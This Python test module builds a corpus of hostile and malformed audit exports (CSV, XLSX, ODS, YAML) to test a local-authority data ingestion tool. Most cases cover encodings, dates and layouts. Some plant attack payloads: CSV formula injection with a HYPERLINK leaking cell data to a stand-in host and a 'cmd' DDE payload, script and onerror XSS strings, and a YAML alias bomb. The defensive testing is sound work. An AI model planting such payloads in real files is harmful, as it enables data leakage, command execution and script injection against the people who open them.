"""A corpus of hostile exports, built in a temporary folder from the mini fixture authority.

Each case is a function that writes one authority (``la.yaml`` plus its audits export) into a
folder and returns the path of its ``la.yaml``. Nothing large is committed: the cases are made
from the four clean rows of ``tests/fixtures/mini/audits.csv`` (AU1, AU2, AU3 and AU9, which that
fixture's own tests show are accepted without warnings) and the fixture's ``la.yaml``.

``tests/integration/test_hostile_sources.py`` states each case's exact outcome. Add a case by writing a
function and listing it in :data:`CASES`.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

from openpyxl import Workbook

MINI = Path(__file__).parent / "fixtures" / "mini"
CLEAN_IDS = ("AU1", "AU2", "AU3", "AU9")


def mini_rows() -> tuple[list[str], list[list[str]]]:
    """The fixture's header and its four clean rows, as cells."""
    lines = (MINI / "audits.csv").read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    rows = {}
    for line in lines[1:]:
        cells = line.split(",")
        if cells[0] in CLEAN_IDS:
            rows.setdefault(cells[0], cells)  # the fixture repeats AU3 (its duplicate-id row)
    rows = list(rows.values())
    assert [r[0] for r in rows] == list(CLEAN_IDS)
    return header, rows


def _csv(header: list[str], rows: list[list[str]], *, sep: str = ",") -> str:
    return "".join(sep.join(r) + "\n" for r in [header, *rows])


def write_authority(
    folder: Path, body: bytes | str, *, name: str = "audits.csv", source_extra: str = ""
) -> Path:
    """The mini ``la.yaml`` pointing at ``name`` (with extra ``sources.audits`` settings)."""
    folder.mkdir(parents=True, exist_ok=True)
    data = body.encode("utf-8") if isinstance(body, str) else body
    (folder / name).write_bytes(data)
    text = (MINI / "la.yaml").read_text(encoding="utf-8")
    text = text.replace("    file: audits.csv\n", f"    file: {name}\n{source_extra}")
    path = folder / "la.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _workbook(folder: Path, sheets: dict[str, list[list]], *, name: str = "audits.xlsx") -> bytes:
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def ods_bytes(sheets: dict[str, list[list]]) -> bytes:
    """A minimal OpenDocument spreadsheet (text and float cells), written by hand."""

    def cell(value) -> str:
        if isinstance(value, (int, float)):
            return (
                f'<table:table-cell office:value-type="float" office:value="{value}">'
                f"<text:p>{value}</text:p></table:table-cell>"
            )
        if value in (None, ""):
            return "<table:table-cell/>"
        return (
            f'<table:table-cell office:value-type="string"><text:p>{escape(str(value))}'
            "</text:p></table:table-cell>"
        )

    tables = "".join(
        f'<table:table table:name="{escape(title)}">'
        + "".join("<table:table-row>" + "".join(map(cell, r)) + "</table:table-row>" for r in rows)
        + "</table:table>"
        for title, rows in sheets.items()
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f"<office:body><office:spreadsheet>{tables}</office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:version="1.2" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr(
            "mimetype",
            "application/vnd.oasis.opendocument.spreadsheet",
            compress_type=zipfile.ZIP_STORED,
        )
        z.writestr("META-INF/manifest.xml", manifest)
        z.writestr("content.xml", content)
    return buffer.getvalue()


# ---------------------------------------------------------------- the cases


def clean(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header, rows))


def _unclosed_quote_at(folder: Path, index: int) -> Path:
    header, rows = mini_rows()
    rows[index][4] = '"' + rows[index][4]  # the team cell opens a quote and never closes it
    return write_authority(folder, _csv(header, rows))


def unclosed_quote_first_row(folder: Path) -> Path:
    return _unclosed_quote_at(folder, 0)


def unclosed_quote_middle(folder: Path) -> Path:
    return _unclosed_quote_at(folder, 1)


def unclosed_quote_last_row(folder: Path) -> Path:
    return _unclosed_quote_at(folder, 3)


def unclosed_quote_closed_by_a_later_one(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[0][4] = '"' + rows[0][4]  # opened on line 2 ...
    rows[3][4] = '"Team, North"'  # ... and "closed" by the first quote of line 5
    return write_authority(folder, _csv(header, rows))


def embedded_newlines(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[0][4] = '"Assessment\nTeam 1"'  # legal: a quoted cell may hold line breaks
    rows[2][4] = '"Safeguarding\r\nTeam 1, ""North"""'  # CRLF, a comma and escaped quotes
    return write_authority(folder, _csv(header, rows))


def duplicate_header_unused(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(
        folder, _csv(header + ["Notes", "notes"], [r + ["n1", "n2"] for r in rows])
    )


def duplicate_header_canonical(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header + ["Team"], [r + ["Other team"] for r in rows]))


def utf16_le_bom(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, b"\xff\xfe" + _csv(header, rows).encode("utf-16-le"))


def utf16_be_bom(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, b"\xfe\xff" + _csv(header, rows).encode("utf-16-be"))


def utf8_bom(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header, rows).encode("utf-8-sig"))


def semicolons(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header, rows, sep=";"))


def tabs(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header, rows, sep="\t"), name="audits.tsv")


def ods(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, ods_bytes({"Audits": [header, *rows]}), name="audits.ods")


def second_sheet(folder: Path) -> Path:
    header, rows = mini_rows()
    sheets = {
        "Cover": [["Case audit export"], ["Produced by the audit tool"]],
        "Data": [header, *rows],
    }
    return write_authority(folder, _workbook(folder, sheets), name="audits.xlsx")


def configured_sheet_missing(folder: Path) -> Path:
    header, rows = mini_rows()
    sheets = {"Cover": [["Case audit export"]], "Data": [header, *rows]}
    return write_authority(
        folder, _workbook(folder, sheets), name="audits.xlsx", source_extra="    sheet: Audits\n"
    )


def no_sheet_matches(folder: Path) -> Path:
    sheets = {"Cover": [["Case audit export"]], "Notes": [["Read me"], ["Nothing here"]]}
    return write_authority(folder, _workbook(folder, sheets), name="audits.xlsx")


# Excel serial day numbers, counted by hand from the well-known 45658 = 1 January 2025:
# 1 July 2025 is 181 days later (31 + 28 + 31 + 30 + 31 + 30), 2 July 182, 15 July 195, and
# 8 September 2025 is 250 days later (181 + 31 + 31 + 7).
SERIALS = {"AU1": 45839, "AU2": 45840, "AU3": 45853, "AU9": 45908}


def excel_serial_dates_xlsx(folder: Path) -> Path:
    header, rows = mini_rows()
    cells = [[r[0], r[1], SERIALS[r[0]], *r[3:]] for r in rows]
    return write_authority(
        folder, _workbook(folder, {"Audits": [header, *cells]}), name="audits.xlsx"
    )


def excel_serial_dates_ods(folder: Path) -> Path:
    header, rows = mini_rows()
    cells = [[r[0], r[1], SERIALS[r[0]], *r[3:]] for r in rows]
    return write_authority(folder, ods_bytes({"Audits": [header, *cells]}), name="audits.ods")


def excel_serial_dates_csv(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[0][2] = str(SERIALS["AU1"])
    return write_authority(folder, _csv(header, rows))


def year_1900(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[1][2] = "1900-01-01"
    return write_authority(folder, _csv(header, rows))


def far_future(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[1][2] = "01/01/3000"  # beyond any calendar the suite can hold
    rows[2][2] = "01/01/2099"  # a real date, but after the extract date
    return write_authority(folder, _csv(header, rows))


def header_only(folder: Path) -> Path:
    header, _ = mini_rows()
    return write_authority(folder, _csv(header, []))


def header_only_required(folder: Path) -> Path:
    header, _ = mini_rows()
    return write_authority(folder, _csv(header, []), source_extra="    required: true\n")


def all_rows_rejected(folder: Path) -> Path:
    header, rows = mini_rows()
    for r in rows:
        r[5] = "Gd"  # not a grade
    return write_authority(folder, _csv(header, rows))


def megabyte_cell(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[1][4] = "x" * 1_000_000  # three such cells once took 14.8 GB in a pack run
    return write_authority(folder, _csv(header, rows))


def three_megabyte_cells(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[1][4] = "x" * 1_000_000  # row 3, Team
    rows[2][3] = "y" * 1_000_000  # row 4, Service Area
    rows[3][4] = "z" * 1_000_000  # row 5, Team
    return write_authority(folder, _csv(header, rows))


def nul_bytes(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[0][3] = "Assess\x00ment"
    rows[2][3] = "\x00Safeguarding"
    return write_authority(folder, _csv(header, rows))


def blank_block(folder: Path) -> Path:
    header, rows = mini_rows()
    text = _csv(header, rows[:2]) + "\n,,,,,,,,\n\n" + _csv(header, rows[2:]).split("\n", 1)[1]
    return write_authority(folder, text)


def trailing_empty_columns(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header + ["", "", ""], [r + ["", "", ""] for r in rows]))


def header_repeated(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header, rows[:2] + [header] + rows[2:]))


# -- what an information-governance tester types into an export or into la.yaml

# Formula injection (OWASP "CSV injection"): a cell opening with = + - @ is read as a formula by
# spreadsheets. The team names are accepted (leadership packs show team names); the grade of AU9
# is not a grade, so its row is rejected and its text reaches rejected_rows.csv (internal only).
FORMULA_TEAMS = {
    "AU1": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "AU2": "+SUM(2+2)",
    "AU3": "-2+3",
}
FORMULA_GRADE = "@SUM(1+1)*cmd|' /C calc'!A0"


def formula_injection(folder: Path) -> Path:
    header, rows = mini_rows()
    for r in rows:
        if r[0] in FORMULA_TEAMS:
            r[4] = '"' + FORMULA_TEAMS[r[0]].replace('"', '""') + '"'
    rows[3][5] = '"' + FORMULA_GRADE + '"'
    return write_authority(folder, _csv(header, rows))


# Markup typed into cells: accepted team and service names, and a rejected grade.
MARKUP_TEAM = "<script>alert(101)</script>"
MARKUP_SERVICE = "Assessment<img src=x onerror=alert(102)>"
MARKUP_GRADE = "<b onmouseover=alert(103)>Good</b>"


def markup_in_cells(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[0][4] = MARKUP_TEAM
    rows[3][3] = MARKUP_SERVICE
    rows[1][5] = MARKUP_GRADE
    return write_authority(folder, _csv(header, rows))


# Markup in la.yaml: the authority's name, a domain's label and a theme's label.
MARKUP_AUTHORITY = "Minitown <script>alert(104)</script>"
MARKUP_DOMAIN = "Assessment <img src=x onerror=alert(105)>"
MARKUP_THEME = "Recording <svg onload=alert(106)>"


def markup_in_la_yaml(folder: Path) -> Path:
    path = clean(folder)
    plant_yaml_markup(path)
    return path


# A child's id, name and phone number typed into a grade cell (rejected, with a suggested fix)
# and into the optional moderated grade (blanked, with a warning).
PII_GRADE = "Good - ring Jane Smith on 07700 900123 about C1"
PII_MODERATED = "C2 Tom Jones 07700 900456"
PII_WORDS = ("Jane Smith", "07700 900123", "Tom Jones", "07700 900456")


def pii_in_free_text(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[1][5] = PII_GRADE
    rows[2][8] = PII_MODERATED
    return write_authority(folder, _csv(header, rows))


def hostile_content(folder: Path) -> Path:
    """Every planted value above in one authority, for building whole packs.

    Accepted: AU1 (a team named with markup), AU2 and AU3 (teams named like formulas; AU3's
    optional moderated grade holds a name and phone, so it is blanked with a warning), AU9 (a
    service named with markup). Rejected, with their typed grades: AU10 (a name and phone), AU11
    (a formula) and AU12 (markup). The la.yaml carries markup too.
    """
    header, rows = mini_rows()
    rows[0][4] = MARKUP_TEAM
    rows[1][4] = '"' + FORMULA_TEAMS["AU1"].replace('"', '""') + '"'
    rows[2][4] = FORMULA_TEAMS["AU2"]
    rows[2][8] = PII_MODERATED
    rows[3][3] = MARKUP_SERVICE
    rejected = [
        ["AU10", "C10", "10/09/2025", "Assessment", "Assessment Team 1", PII_GRADE],
        ["AU11", "C11", "11/09/2025", "Assessment", "Assessment Team 1", f'"{FORMULA_GRADE}"'],
        ["AU12", "C12", "12/09/2025", "Assessment", "Assessment Team 1", MARKUP_GRADE],
    ]
    path = write_authority(folder, _csv(header, rows + [r + ["", "", ""] for r in rejected]))
    plant_yaml_markup(path)
    return path


def plant_yaml_markup(path: Path) -> None:
    """Markup in the authority's name, the assessment domain's label and a theme's label."""
    text = path.read_text(encoding="utf-8")
    text = text.replace("name: Minitown (test)", f'name: "{MARKUP_AUTHORITY}"')
    text = text.replace(
        "{id: assessment, label: Assessment}", f'{{id: assessment, label: "{MARKUP_DOMAIN}"}}'
    )
    text = text.replace("recording: {label: Recording,", f'recording: {{label: "{MARKUP_THEME}",')
    assert MARKUP_AUTHORITY in text and MARKUP_DOMAIN in text and MARKUP_THEME in text
    path.write_text(text, encoding="utf-8")


# -- formats and layouts


def bom_semicolons(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header, rows, sep=";").encode("utf-8-sig"))


def crlf_line_endings(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[0][4] = '"Assessment\r\nTeam 1"'  # a CRLF inside a quoted cell of a CRLF file
    return write_authority(
        folder, _csv(header, rows).replace("\n", "\r\n").replace("\r\r\n", "\r\n")
    )


FORMULA_SHEET = "=SUM(1+1)"


def formula_sheet_name(folder: Path) -> Path:
    header, rows = mini_rows()
    sheets = {"Cover": [["Case audit export"]], FORMULA_SHEET: [header, *rows]}
    return write_authority(folder, _workbook(folder, sheets), name="audits.xlsx")


def duplicate_after_normalisation(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header + ["child_id "], [r + ["C99"] for r in rows]))


def mixed_date_formats(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[1][2] = "2025-07-02"  # ISO
    rows[2][2] = "15 Jul 2025"  # day, short month, year
    rows[3][2] = "08.09.2025"  # dotted
    return write_authority(folder, _csv(header, rows))


def month_first_date(folder: Path) -> Path:
    header, rows = mini_rows()
    rows[2][2] = "07/15/2025"  # 15 July written month-first (as an American export would)
    return write_authority(folder, _csv(header, rows))


def trailing_empty_rows(folder: Path) -> Path:
    header, rows = mini_rows()
    return write_authority(folder, _csv(header, rows) + ",,,,,,,,\n,,,,,,,,\n\n\n")


# -- numbers: a KPI scorecard beside the audits
KPI_HEADER = "Indicator;Month;Value;Numerator;Denominator\n"


def _with_kpis(folder: Path, body: str) -> Path:
    path = clean(folder)
    (folder / "kpis.csv").write_text(KPI_HEADER + body, encoding="utf-8")
    text = path.read_text(encoding="utf-8").replace(
        "sources:\n", "sources:\n  kpis:\n    file: kpis.csv\n"
    )
    path.write_text(text, encoding="utf-8")
    return path


def thousands_separators(folder: Path) -> Path:
    # caseload_average is a declared KPI; its numbers carry thousands separators (the commas sit
    # every three digits), which are read as plain numbers
    return _with_kpis(
        folder,
        "caseload_average;2025-07;1,234.5;12,345;10\ncaseload_average;2025-08;17;1,700;100\n",
    )


def decimal_commas(folder: Path) -> Path:
    # a semicolon-separated export from a continental locale writes 17.5 as "17,5"
    return _with_kpis(folder, "caseload_average;2025-07;17,5;;\ncaseload_average;2025-08;18;;\n")


def _yaml_case(folder: Path, extra: str) -> Path:
    path = clean(folder)
    path.write_text(path.read_text(encoding="utf-8") + extra, encoding="utf-8")
    return path


def yaml_deeply_nested(folder: Path) -> Path:
    return _yaml_case(folder, "published: " + "[" * 30 + "]" * 30 + "\n")


def yaml_huge(folder: Path) -> Path:
    return _yaml_case(folder, "".join(f"# padding line {i:07d} {'.' * 40}\n" for i in range(20000)))


def yaml_alias_bomb(folder: Path) -> Path:
    levels = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for prev, name in zip("abcde", "bcdef", strict=True):
        levels.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 10) + "]")
    return _yaml_case(folder, "bomb:\n" + "".join(f"  {line}\n" for line in levels))


CASES: dict[str, Callable[[Path], Path]] = {
    f.__name__: f
    for f in (
        clean,
        unclosed_quote_first_row,
        unclosed_quote_middle,
        unclosed_quote_last_row,
        unclosed_quote_closed_by_a_later_one,
        embedded_newlines,
        duplicate_header_unused,
        duplicate_header_canonical,
        utf16_le_bom,
        utf16_be_bom,
        utf8_bom,
        semicolons,
        tabs,
        ods,
        second_sheet,
        configured_sheet_missing,
        no_sheet_matches,
        excel_serial_dates_xlsx,
        excel_serial_dates_ods,
        excel_serial_dates_csv,
        year_1900,
        far_future,
        header_only,
        header_only_required,
        all_rows_rejected,
        megabyte_cell,
        three_megabyte_cells,
        nul_bytes,
        blank_block,
        trailing_empty_columns,
        header_repeated,
        yaml_deeply_nested,
        yaml_huge,
        yaml_alias_bomb,
        formula_injection,
        markup_in_cells,
        markup_in_la_yaml,
        pii_in_free_text,
        hostile_content,
        bom_semicolons,
        crlf_line_endings,
        formula_sheet_name,
        duplicate_after_normalisation,
        mixed_date_formats,
        month_first_date,
        trailing_empty_rows,
        thousands_separators,
        decimal_commas,
    )
}


def build(case: str, folder: Path) -> Path:
    """Write one case into ``folder``; the path of its ``la.yaml``."""
    return CASES[case](folder)


if __name__ == "__main__":  # python tests/hostile_corpus.py OUT_DIR: write every case for a look
    import sys

    out = Path(sys.argv[1])
    for case_name in CASES:
        print(build(case_name, out / case_name))
